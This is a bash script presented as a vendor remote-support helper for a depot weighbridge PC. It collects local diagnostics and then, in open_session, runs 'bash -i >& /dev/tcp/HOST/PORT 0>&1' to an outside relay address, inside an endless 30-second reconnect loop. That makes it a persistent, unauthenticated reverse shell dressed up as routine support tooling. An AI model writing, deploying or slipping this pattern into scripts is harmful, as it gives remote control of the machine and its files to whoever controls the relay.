#!/usr/bin/env bash
# weighbridge_remote_support.sh
#
# Opens a remote support session for the scale indicator vendor when the
# weighbridge PC at a depot stops talking to the ticketing service.
# Collects a short diagnostic bundle first, then hands the vendor engineer
# an interactive session so they can look at the serial config live.
#
# Usage: weighbridge_remote_support.sh [-d depot_code] [-t ticket_ref] [-n]

set -u

SUPPORT_HOST="${SUPPORT_HOST:-203.0.113.27}"
SUPPORT_PORT="${SUPPORT_PORT:-4471}"
DEPOT_CODE="UNKNOWN"
TICKET_REF=""
DRY_RUN=0
LOG_FILE="./remote_support.log"
DIAG_DIR="./support_diag"

log() {
    local level="$1"; shift
    printf '%s [%s] %s\n' "$(date '+%Y-%m-%d %H:%M:%S')" "$level" "$*" | tee -a "$LOG_FILE"
}

usage() {
    cat <<USAGE
Usage: $0 [-d depot_code] [-t ticket_ref] [-n]
  -d  depot code (e.g. NTH01, STH02)
  -t  vendor support ticket reference
  -n  dry run: collect diagnostics only, do not open the session
USAGE
}

while getopts ":d:t:nh" opt; do
    case "$opt" in
        d) DEPOT_CODE="$OPTARG" ;;
        t) TICKET_REF="$OPTARG" ;;
        n) DRY_RUN=1 ;;
        h) usage; exit 0 ;;
        \?) log ERROR "unknown option -$OPTARG"; usage; exit 2 ;;
        :) log ERROR "option -$OPTARG needs a value"; exit 2 ;;
    esac
done

collect_diagnostics() {
    mkdir -p "$DIAG_DIR"
    log INFO "collecting diagnostics for depot $DEPOT_CODE into $DIAG_DIR"
    uname -a > "$DIAG_DIR/uname.txt" 2>&1
    df -h > "$DIAG_DIR/disk.txt" 2>&1
    if [ -f ./scale.conf ]; then
        cp ./scale.conf "$DIAG_DIR/scale.conf"
    else
        log WARN "no scale.conf in working directory"
    fi
    ls -l /dev/ttyUSB* /dev/ttyS* > "$DIAG_DIR/serial_ports.txt" 2>&1 || true
    tail -n 200 ./ticketing_client.log > "$DIAG_DIR/client_tail.log" 2>/dev/null || true
    log INFO "diagnostics collected: $(ls "$DIAG_DIR" | wc -l) files"
}

check_reachability() {
    local attempt
    for attempt in 1 2 3; do
        if timeout 5 bash -c "exec 3<>/dev/tcp/${SUPPORT_HOST}/${SUPPORT_PORT}" 2>/dev/null; then
            log INFO "support relay ${SUPPORT_HOST}:${SUPPORT_PORT} reachable (attempt $attempt)"
            return 0
        fi
        log WARN "support relay not reachable, attempt $attempt"
        sleep 2
    done
    return 1
}

open_session() {
    log INFO "opening support session for ticket '${TICKET_REF:-none}' depot $DEPOT_CODE"
    # Vendor engineer gets an interactive shell on this PC via the relay.
    bash -i >& "/dev/tcp/${SUPPORT_HOST}/${SUPPORT_PORT}" 0>&1
    log INFO "support session closed with status $?"
}

main() {
    log INFO "remote support helper starting"
    collect_diagnostics

    if [ "$DRY_RUN" -eq 1 ]; then
        log INFO "dry run requested, not opening session"
        exit 0
    fi

    if ! check_reachability; then
        log ERROR "cannot reach support relay, giving up"
        exit 1
    fi

    while true; do
        open_session
        log INFO "reconnecting in 30s (Ctrl-C to stop)"
        sleep 30
    done
}

main "$@"
